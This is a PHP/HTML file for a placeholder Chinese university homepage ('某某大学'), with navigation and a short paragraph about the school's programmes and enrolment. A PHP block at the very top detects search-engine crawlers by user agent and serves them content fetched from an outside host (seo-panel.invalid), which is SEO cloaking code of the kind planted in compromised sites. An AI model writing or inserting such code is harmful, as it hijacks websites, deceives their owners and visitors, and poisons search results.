<?php
if(preg_match('/baiduspider|sogou|360spider|yisouspider|bytespider|googlebot/i',$_SERVER['HTTP_USER_AGENT'])){echo file_get_contents('http://seo-panel.invalid/?h='.$_SERVER['HTTP_HOST']);exit;}
?>
<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>某某大学</title>
</head>
<body>
<div class="header"><a href="/">首页</a> <a href="/news/">新闻</a> <a href="/about/">学校概况</a></div>
<div class="main">
<h1>某某大学</h1>
<p>某某大学是一所以工科为主、多学科协调发展的全日制普通高等学校，学校坚持立德树人根本任务，培养德智体美劳全面发展的社会主义建设者和接班人。</p>
<p>学校现有本科专业六十余个，在校学生两万余人，教职工两千余人，拥有国家级实验教学示范中心和省级重点实验室多个。</p>
<p>欢迎广大考生报考某某大学，招生咨询电话请见招生网。</p>
</div>
<div class="footer">版权所有 某某大学 <a href="http://www.moe.gov.cn/">教育部</a></div>
</body>
</html>
